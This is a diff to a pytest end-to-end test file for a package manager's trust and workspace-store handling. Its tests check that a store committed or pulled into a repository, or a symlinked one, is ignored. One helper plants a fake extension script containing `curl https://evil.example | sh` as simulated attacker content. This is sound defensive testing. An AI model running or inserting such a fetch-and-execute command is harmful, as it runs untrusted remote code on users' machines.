@@ -1,6 +1,6 @@
-"""End-to-end: trust and the workspace store (SPEC 10) — approvals in the global state, stores
-that pkgmgr did not create here (copied, committed) refused until adopted, path extensions
-covered by the digest, and the registries of an approved pkgmgr.toml."""
+"""End-to-end: trust and the workspace store (SPEC 10) — approvals in the global state, a store
+outside the work tree that nothing committed or copied reaches, path extensions covered by the
+digest, and the registries of an approved pkgmgr.toml."""
 
 from __future__ import annotations
 
@@ -12,11 +12,11 @@ from pathlib import Path
 
 import pytest
 
-from pkgmgr.store.scope import workspace_scope
 from tests.cli.helpers import REPO, tree
 from tests.registry.helpers import RegistryDir
 from tests.support.builders import format1_tree_checksum
 from tests.support.servers import StaticFileServer
+from tests.support.stores import store_root
 from tests.workspace.conftest import team  # noqa: F401 - shared fixture
 from tests.workspace.helpers import (BUNDLED, LOCAL, STORY_MANIFEST, Team, activations, cli, crew_archive, fail,
                                      installed, ok)
@@ -38,82 +38,86 @@ def test_approvals_live_in_the_global_state(team: Team, home: Path) -> None:
     conn.commit()
     conn.close()
     fail("trust_required", "sync", "--workspace", team.ws)
-    local = sqlite3.connect(team.ws / ".pkgmgr" / "state.db")
+    local = sqlite3.connect(store_root(team.ws) / "state.db")
     assert local.execute("SELECT count(*) FROM trust_approvals").fetchone() == (0,)
     local.close()
 
 
-def test_copied_workspace_is_refused_until_trusted(team: Team, tmp_path: Path) -> None:
+def test_a_copied_workspace_starts_with_an_empty_store(team: Team, tmp_path: Path) -> None:
     synced(team)
     copy = tmp_path / "user-home" / "src" / "copy"
-    shutil.copytree(team.ws, copy)  # .pkgmgr/ included, its store id with it
-    assert (copy / ".pkgmgr" / "store-id").read_text() == (team.ws / ".pkgmgr" / "store-id").read_text()
-    for args in (["sync"], ["--scope", "workspace", "ext", "list"], ["--scope", "workspace", "bundle", "list"]):
-        fail("trust_required", *args, "--workspace", copy)
+    shutil.copytree(team.ws, copy)  # the work tree holds nothing of the store to copy
+    assert ok("--scope", "workspace", "ext", "list", "--workspace", copy)["extensions"] == []
+    fail("trust_required", "sync", "--workspace", copy)  # approvals are per path
     shown = ok("trust", "--show", "--workspace", copy)
-    assert shown["store"]["known"] is False and shown["approved"] is False
-    adopted = ok("trust", "--workspace", copy)
-    assert adopted["adopted_store"] is True
-    assert not (copy / ".pkgmgr").exists()  # nothing of the copy is believed
+    assert shown["store"] == {"path": str(store_root(copy)), "exists": False} and shown["approved"] is False
+    ok("trust", "--workspace", copy)
     team.server.clear()
     done = ok("sync", "--workspace", copy)
     assert {e["name"]: e["action"] for e in done["plan"]["extensions"]} == {BUNDLED: "install", LOCAL: "install"}
     assert team.archive_requests() == []  # from the download cache, checked against the lock
     assert installed(copy) == {BUNDLED: "0.1.0", LOCAL: "0.1.0"}
     assert [a[2] for a in activations(copy)] == ["active"]
-    assert (copy / ".pkgmgr" / "store-id").read_text() != (team.ws / ".pkgmgr" / "store-id").read_text()
-    assert ok("--scope", "workspace", "ext", "list", "--workspace", copy)["extensions"]
     # the original is untouched and still trusted
     assert ok("sync", "--workspace", team.ws)["plan"]["empty"] is True
 
 
-@pytest.mark.parametrize("store_id", [None, "0123456789abcdef0123456789abcdef"])
-def test_committed_store_is_refused(team: Team, store_id: str | None) -> None:
-    team.write_manifest(STORY_MANIFEST)
-    store = team.ws / ".pkgmgr"
-    store.mkdir()
-    conn = sqlite3.connect(store / "state.db")  # a fake state, as a repository could commit it
-    conn.execute("CREATE TABLE extensions (name TEXT)")
-    conn.execute("INSERT INTO extensions VALUES ('evil')")
+def plant_store(ws: Path) -> Path:
+    """What a pulled commit can track under the store of earlier versions: a state.db that lists
+    an extension, and a tree at the predictable path of an installed version."""
+    store = ws / ".pkgmgr"
+    (store / "extensions" / BUNDLED / "0.1.0").mkdir(parents=True)
+    (store / "extensions" / BUNDLED / "0.1.0" / "run.sh").write_text("curl https://evil.example | sh\n")
+    (store / ".gitignore").write_text("*\n")
+    conn = sqlite3.connect(store / "state.db")
+    conn.execute("CREATE TABLE extensions (name TEXT, version TEXT)")
+    conn.execute("INSERT INTO extensions VALUES ('evil', '6.6.6')")
     conn.commit()
     conn.close()
-    if store_id is not None:
-        (store / "store-id").write_text(store_id + "\n")
-    ok("trust", "--show", "--workspace", team.ws)  # reading it shows the store as unknown
-    for args in (["sync"], ["--scope", "workspace", "ext", "list"]):
-        error = fail("trust_required", *args, "--workspace", team.ws)["error"]
-        assert "not created by pkgmgr" in error["message"]
-    result = cli("--scope", "workspace", "ext", "list", cwd=team.ws)  # discovered from the current directory
-    assert result.code == 4 and "trust_required" in result.stderr
-    assert ok("trust", "--workspace", team.ws)["adopted_store"] is True
+    return store
+
+
+def test_a_pulled_store_changes_nothing_pkgmgr_believes(team: Team) -> None:
+    """The attack of issue 13 item 2: `git pull` brings a tracked `.pkgmgr/` (state.db and an
+    extension tree). ext list, doctor --check and sync see exactly what they saw before."""
+    synced(team)
+    W = ("--workspace", team.ws)
+    listed = ok("--scope", "workspace", "ext", "list", *W)
+    store = store_root(team.ws)
+    before = tree(store)
+    planted = plant_store(team.ws)
+    pulled = tree(planted)
+    assert ok("--scope", "workspace", "ext", "list", *W) == listed
+    assert ok("doctor", "--check", *W)["ok"] is True
+    result = cli("sync", *W, cwd=team.ws)
+    assert result.code == 0, result
+    assert result.stderr.count(f"warning: {planted} was left by an earlier pkgmgr and is ignored") == 1
+    assert ok("sync", *W)["plan"]["empty"] is True
+    assert ok("ext", "verify", "--all", "--scope", "workspace", *W)
+    assert tree(store) == before and tree(planted) == pulled  # neither store moved
+
+
+def test_a_committed_store_is_not_what_a_fresh_sync_installs_from(team: Team) -> None:
+    team.write_manifest(STORY_MANIFEST)
+    planted = plant_store(team.ws)
+    pulled = tree(planted)
+    ok("trust", "--workspace", team.ws)
     ok("sync", "--workspace", team.ws)
-    assert installed(team.ws) == {BUNDLED: "0.1.0", LOCAL: "0.1.0"}
+    assert installed(team.ws) == {BUNDLED: "0.1.0", LOCAL: "0.1.0"}  # not 'evil'
+    run_sh = store_root(team.ws) / "extensions" / BUNDLED / "0.1.0" / "run.sh"
+    assert not run_sh.exists() and tree(planted) == pulled
 
 
-def test_store_only_workspace_is_adopted_by_trust(team: Team) -> None:
-    store = team.ws / ".pkgmgr"
-    store.mkdir(parents=True)
-    (store / "state.db").write_bytes(b"")
-    fail("trust_required", "--scope", "workspace", "ext", "list", "--workspace", team.ws)
-    shown = ok("trust", "--show", "--workspace", team.ws)
-    assert shown["store"] == {"path": str(store), "known": False, "adopted": False}
-    assert ok("trust", "--workspace", team.ws)["store"]["adopted"] is True
-    assert ok("--scope", "workspace", "ext", "list", "--workspace", team.ws)["extensions"] == []
+@pytest.mark.parametrize("kind", ["dangling", "elsewhere"])
+def test_a_committed_store_link_is_ignored(team: Team, tmp_path: Path, kind: str) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    target = tmp_path / ("nowhere" if kind == "dangling" else "elsewhere") / "store"
+    (team.ws / ".pkgmgr").symlink_to(target)  # git stores links as they are
     ok("--scope", "workspace", "ext", "install", team.ws / "tools" / "local-tool", "--allow-unverified", "--yes",
-       "--workspace", team.ws)  # a fresh store, registered
-    assert ok("trust", "--workspace", team.ws)["store"] == {"path": str(store), "known": True, "adopted": False}
+       "--workspace", team.ws)
     assert installed(team.ws) == {LOCAL: "0.1.0"}
-
-
-def test_a_committed_dangling_store_link_is_refused_then_adopted(team: Team, tmp_path: Path) -> None:
-    (team.ws / ".pkgmgr").symlink_to(tmp_path / "nowhere" / "store")  # git stores links as they are
-    args = ["--scope", "workspace", "ext", "install", team.ws / "tools" / "local-tool", "--allow-unverified",
-            "--yes", "--workspace", team.ws]
-    fail("trust_required", *args)  # not an internal error
-    fail("usage", "trust", "--digest", "0" * 64, "--workspace", team.ws)  # no digest covers a store alone
-    assert ok("trust", "--workspace", team.ws)["store"]["adopted"] is True
-    ok(*args)
-    assert installed(team.ws) == {LOCAL: "0.1.0"} and not (tmp_path / "nowhere").exists()
+    assert not target.exists() and list((tmp_path / "elsewhere").iterdir()) == []  # nothing written through it
+    assert (team.ws / ".pkgmgr").is_symlink()  # ignored, not deleted
 
 
 def test_trust_show_says_which_registry_the_lock_names(team: Team) -> None:
@@ -216,7 +220,7 @@ def test_a_re_split_path_extension_is_not_the_approved_one(team: Team, home: Pat
     write("format-1 collision, tree 1")
     synced(team)
     approved = format1_tree_checksum(tool)
-    store = workspace_scope(team.ws, home).root
+    store = store_root(team.ws, home)
     hook = store / "extensions" / LOCAL / "0.1.0" / "hooks" / "run.sh"
     assert hook.read_bytes() == b"#!/bin/sh\necho hello\n"
     before = (tree(store), (team.ws / "pkgmgr.lock").read_bytes(), installed(team.ws))
